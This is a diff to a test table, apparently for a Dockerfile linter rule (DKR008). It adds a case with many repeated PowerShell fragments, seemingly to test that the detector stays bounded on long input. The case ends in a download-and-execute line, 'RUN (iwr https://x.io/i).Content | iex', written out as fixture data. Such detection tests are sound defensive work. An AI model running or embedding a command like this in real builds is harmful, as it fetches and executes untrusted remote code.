@@ -79,6 +79,17 @@ SHELL_CASES = {
         + "-\n",
         "DKR008",
     ),
+    # Each PowerShell downloader is followed only up to a bound for `).Content | iex`.
+    "dockerfile-powershell-downloads-evaluated": (
+        "Dockerfile",
+        "FROM mcr.microsoft.com/windows/servercore:ltsc2022\n"
+        'SHELL ["powershell", "-Command"]\nRUN '
+        + "(iwr https://x.io/i ; " * (_LONG // 22)
+        + "\nRUN "
+        + "[scriptblock]::Create( " * (_LONG // 23)
+        + "\nRUN (iwr https://x.io/i).Content | iex\n",
+        "DKR008",
+    ),
     # A symbolic mode's clauses and operations are applied once each, in order.
     "dockerfile-chmod-symbolic-clauses": (
         "Dockerfile",
